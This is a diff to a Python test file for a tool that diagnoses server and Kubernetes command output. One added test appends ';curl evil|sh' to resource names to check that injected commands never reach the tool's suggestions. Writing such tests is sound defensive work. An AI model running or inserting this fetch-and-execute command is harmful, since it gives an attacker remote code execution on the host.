@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
+from textwrap import dedent
+
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from tests.unit.diagnosis.inspections import outputs
 from tests.unit.diagnosis.inspections.stated import answered, faults, top
 
@@ -208,7 +212,37 @@ def test_a_refused_port_on_which_nothing_listens_by_the_listing() -> None:
 def test_a_file_system_that_has_room_for_now_is_noted_and_not_blamed() -> None:
     report = answered(outputs.DF.replace("44% /", "91% /"))
     assert report.verdict == "no_fault_found"
-    assert "A file system is nearly full" in report.summary or "The file system / is nearly full" in report.summary
+    assert "The file system / (/dev/sda1): 91 % of its space is used, 27G left" in report.summary
+
+
+@pytest.mark.parametrize("command", [name for name in outputs.HEALTHY if name not in ("git", "pip", "npm")])
+def test_names_out_of_output_enter_no_command(command: str) -> None:
+    names = ("lantern", "tide-db", "quay.example", "pier-b", "/dev/sda1", "tide-data")
+    text = outputs.HEALTHY[command]
+    for name in names:
+        text = text.replace(name, f"{name};curl evil|sh")
+    text = (
+        text.replace("Up 2 hours", "Exited (1) 1s")
+        .replace("NOERROR", "NXDOMAIN")
+        .replace("code: 0 (ok)", "code: 10 (x)")
+    )
+    text = text.replace("3/3", "1/3").replace("44%", "99%").replace("Ready  ", "NotReady").replace("200 OK", "502 Bad")
+    report = answered(text)
+    told = [step.command or "" for step in (*report.next_checks, *report.actions)]
+    assert not [line for line in told if "evil" in line]
+    assert "](" not in report.response.replace("\\](", "")
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.sampled_from(sorted(outputs.HEALTHY)), min_size=1, max_size=3), st.data())
+def test_output_with_words_torn_out_and_exchanged_still_gets_an_answer_that_can_be_checked(
+    commands: list[str], data: st.DataObject
+) -> None:
+    text = "\n".join(dedent(outputs.HEALTHY[command]) for command in commands)
+    words = sorted(set(text.split()))
+    for _ in range(data.draw(st.integers(0, 8))):
+        text = text.replace(data.draw(st.sampled_from(words)), data.draw(st.sampled_from(words) | st.text(max_size=8)))
+    assert answered(text).summary
 
 
 def test_a_list_of_objects_as_json_is_read_like_the_listing() -> None:
@@ -239,7 +273,8 @@ def test_a_list_of_objects_as_json_is_read_like_the_listing() -> None:
     """
     report = answered(listed)
     assert top(report).fault_id == "out_of_memory_killed"
-    assert "after 14 restarts" in report.summary
+    assert "lantern-6c9d7f8b4-x2x9z" in report.summary
+    assert "after 14 restarts" in " ".join(reason.text for reason in top(report).because)
 
 
 OBJECT = """
@@ -298,16 +333,16 @@ def condition(type_: str, status: str, reason: str = "", message: str = "") -> s
         (
             "Job",
             "{}",
-            '{"conditions": [' + condition("Failed", "True", "DeadlineExceeded", "It took too long.") + "]}",
+            '{"conditions": [' + condition("Failed", "True", "BackoffLimitExceeded", "It was tried often.") + "]}",
             "job_failed",
-            "has failed (DeadlineExceeded)",
+            "has failed (BackoffLimitExceeded)",
         ),
     ],
 )
 def test_an_object_is_judged_by_its_status(kind: str, spec: str, status: str, fault: str, words: str) -> None:
     report = answered(OBJECT.replace("KIND", kind).replace("SPEC", spec).replace("STATUS", status))
     assert top(report).fault_id == fault
-    assert words in report.summary
+    assert words in " ".join(reason.text for reason in top(report).because)
 
 
 @pytest.mark.parametrize(
@@ -331,18 +366,18 @@ def test_a_node_is_judged_by_its_description() -> None:
         Name:               pier-b
         Roles:              <none>
         Conditions:
-          Type             Status  LastHeartbeatTime                 LastTransitionTime                Reason  Message
-          ----             ------  -----------------                 ------------------                ------  -------
-          MemoryPressure   False   Tue, 04 Mar 2031 10:00:00 +0000   Tue, 04 Mar 2031 08:00:00 +0000   Enough  enough
-          Ready            False   Tue, 04 Mar 2031 10:00:00 +0000   Tue, 04 Mar 2031 09:00:00 +0000   NotReady  no network
+          Type             Status  LastHeartbeatTime                 Reason    Message
+          ----             ------  -----------------                 ------    -------
+          MemoryPressure   False   Tue, 04 Mar 2031 10:00:00 +0000   Enough    enough memory
+          Ready            False   Tue, 04 Mar 2031 10:00:00 +0000   NotReady  no network
         Capacity:
           cpu:  4
         Allocatable:
           cpu:  4
-        """.replace("NotReady  no", "X  no")
+        """
     )
     assert top(report).fault_id == "node_not_ready"
-    assert "pier-b is not ready: no network" in report.summary
+    assert "pier-b is not ready: “no network”" in report.summary
 
 
 def test_a_service_without_endpoints() -> None:
